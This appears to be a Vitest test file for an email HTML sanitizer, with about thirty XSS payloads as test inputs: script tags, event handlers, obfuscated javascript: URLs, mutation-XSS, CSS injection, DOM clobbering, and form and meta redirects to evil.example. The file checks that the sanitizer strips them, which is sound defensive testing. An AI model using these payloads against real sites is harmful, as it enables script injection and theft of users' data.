import { expect, test } from "vitest";
import { sanitizeMailHtml } from "./sanitize.ts";

const clean = (html: string) => sanitizeMailHtml(html).html;

test.each([
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></ScRiPt>",
  "<img src=x onerror=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg/onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href=' java\tscript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='vbscript:x'>x</a><a href='data:text/html,<script>alert(1)</script>'>y</a>",
  "<form action='https://evil.example'><input name=p><button>ok</button></form>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example'>",
  "<link rel=stylesheet href='https://evil.example/a.css'>",
  "<style>@import 'https://evil.example/a.css'; body{background:url(https://evil.example/b)}</style>",
  "<div style='background:url(https://evil.example/p)'>x</div>",
  "<div style='background-color: url(https://evil.example/p)'>x</div>",
  "<div style='width: expression(alert(1))'>x</div>",
  '<div style="color: \\75\\72\\6c(https://evil.example)">x</div>',
  "<div style='position:fixed;top:0;left:0;width:100%'>x</div>",
  "<table background='https://evil.example/t'><tr><td background='https://evil.example/u'>x</td></tr></table>",
  "<video poster='https://evil.example/v' src='https://evil.example/w'></video><audio src='https://evil.example/a'></audio>",
  "<img srcset='https://evil.example/s 2x' src='//evil.example/p'>",
  "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
  "<a id=location name=location href='#'>x</a>",
  "<!--[if mso]><script>alert(1)</script><![endif]-->x",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
])("%s comes out harmless", (html) => {
  const found = clean(html);
  expect(found).not.toMatch(
    /<(?:script|svg|math|iframe|object|embed|form|input|button|meta|base|link|style|video|audio)\b|evil\.example|(?:java|vb)script:|data:(?!image\/png)|expression|position|srcset|\bid=|\bname=/i,
  );
  expect(found.replace(/"[^"]*"/g, '""')).not.toMatch(/<[^>]*\son\w+\s*=/i);
});

test("what people write is kept", () => {
  const html =
    '<p style="color:red">Bonjour <b>Jeff</b>, <i>à demain</i></p><ul><li>un</li></ul><table border="1"><tr><td colspan="2">a</td></tr></table><blockquote>cité</blockquote>';
  expect(clean(html)).toBe(html);
});

test("links tell nothing about where they were followed from", () => {
  expect(clean("<a href='https://exemple.test/a?b=1' target=_top>voir</a>")).toBe(
    '<a href="https://exemple.test/a?b=1" rel="noopener noreferrer nofollow" target="_blank">voir</a>',
  );
});

test("remote images are left out, marked and counted; asked for, they come over https only", () => {
  const html = '<img src="https://exemple.test/logo.png" alt="Logo"><img src="http://exemple.test/pixel.gif">';
  expect(sanitizeMailHtml(html)).toEqual({ html: '<img alt="Logo" data-remote-image /><img data-remote-image />', remoteImages: 2 });
  expect(sanitizeMailHtml(html, { withRemote: true })).toEqual({
    html: '<img src="https://exemple.test/logo.png" alt="Logo" /><img data-remote-image />',
    remoteImages: 1,
  });
});

test("a picture the mail carries is shown from where the desk serves it", () => {
  const urlOf = (id: string) => (id === "photo@1" ? "https://desk.test/files/1" : null);
  expect(sanitizeMailHtml('<img src="cid:photo%401"><img src="cid:autre">', { urlOf }).html).toBe(
    '<img src="https://desk.test/files/1" /><img />',
  );
});

test("markup too deep or too long is shown as its text", () => {
  expect(clean("<div>".repeat(50_000) + "bonjour <b>Jeff</b>")).toBe('<p style="white-space:pre-wrap">bonjour Jeff</p>');
  expect(clean(`${"<p>x</p>".repeat(150_000)}&lt;script&gt;`)).toMatch(/^<p style="white-space:pre-wrap">x\n[^<]*&lt;script&gt;<\/p>$/);
});
